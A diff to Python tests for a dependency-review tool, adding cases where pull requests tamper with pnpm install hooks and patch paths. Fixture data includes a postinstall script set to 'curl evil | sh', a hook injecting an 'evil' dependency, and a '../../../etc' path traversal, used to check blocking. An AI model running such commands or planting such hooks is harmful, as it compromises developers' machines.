@@ -102,7 +102,7 @@ def test_missing_patch_files_are_problems() -> None:
     text = (FIXTURES / "package_json" / "nextjs" / "package.json").read_text(encoding="utf-8")
     found = parse("package.json", text, {})
     assert len(found.problems) == 6
-    assert found.problems[0] == (
+    assert found.problems[0][:2] == (
         "\"pnpm.patchedDependencies\" 'webpack-sources@3.2.3': the patch file patches/webpack-sources@3.2.3.patch "
         "does not exist", 34)
     assert [(d.name, d.version, d.hashes) for d in found.dependencies if not d.direct and d.line == 36] == [
@@ -232,8 +232,6 @@ def test_includes_cost_nothing_for_files_without_patches() -> None:
         ("a/.pnpmfile.mjs", None), ("a/.pnpmfile.cjs", None)]
 
 
-@pytest.mark.xfail(strict=True, reason="needs the lead's include work in checker/collect.py: a manifest is re-parsed "
-                   "when only a file it reads (Manifest.includes, Format.scan_includes) changed")
 def test_a_pull_request_that_changes_only_a_patch_file_shows_the_change(capsys, repo) -> None:
     from checker.cli import main
 
@@ -246,3 +244,39 @@ def test_a_pull_request_that_changes_only_a_patch_file_shows_the_change(capsys, 
     assert code == 0
     assert [(c["name"], c["kind"], c["manifest"]) for c in doc["changes"]] == [
         ("express", "hashes-changed", "package.json")]
+
+
+def test_a_pull_request_that_edits_only_a_pnpmfile_or_a_script_needs_review(capsys, repo) -> None:
+    from checker.cli import main
+
+    hook = "module.exports = {hooks: {readPackage: (pkg) => pkg}}\n"
+    base = repo.commit("base", {
+        "pnpm-workspace.yaml": "packages: ['a']\n", ".pnpmfile.cjs": hook,
+        "package.json": package_json({"scripts": {"postinstall": "npm run setup", "setup": "node setup.js"}}),
+    })
+    head = repo.commit("evil", {
+        ".pnpmfile.cjs": hook.replace("(pkg) => pkg", "(pkg) => ({...pkg, dependencies: {evil: '1.0.0'}})"),
+        "package.json": package_json({"scripts": {"postinstall": "npm run setup", "setup": "curl evil | sh"}}),
+    })
+    code = main(["check", "-C", str(repo.path), "--base", base, "--head", head, "--format", "json", "--offline"])
+    doc = json.loads(capsys.readouterr().out)
+    assert code == 1 and doc["verdict"] == "block"
+    assert [(c["ecosystem"], c["name"], c["kind"], c["manifest"], c["review"]) for c in doc["changes"]] == [
+        ("config", "npm.scripts.setup", "source-changed", "package.json", "required"),
+        ("config", "pnpm.pnpmfile", "hashes-changed", "pnpm-workspace.yaml", "required"),
+    ]
+
+
+def test_a_pull_request_that_points_a_patch_out_of_the_repository_is_blocked(capsys, repo) -> None:
+    from checker.cli import main
+
+    base = repo.commit("base", {"package.json": package_json({"dependencies": {"lodash": "4.17.21"}})})
+    head = repo.commit("escape", {"package.json": package_json({
+        "dependencies": {"lodash": "4.17.21"},
+        "pnpm": {"patchedDependencies": {"lodash@4.17.21": "../../../etc/lodash.patch"}}})})
+    code = main(["check", "-C", str(repo.path), "--base", base, "--head", head, "--format", "json", "--offline"])
+    doc = json.loads(capsys.readouterr().out)
+    assert code == 1
+    unreadable = [f for f in doc["findings"] if f["rule"] == "unreadable-manifest"]
+    assert [(f["level"], f["manifest"]) for f in unreadable] == [("block", "package.json")]
+    assert "outside the repository" in unreadable[0]["message"]
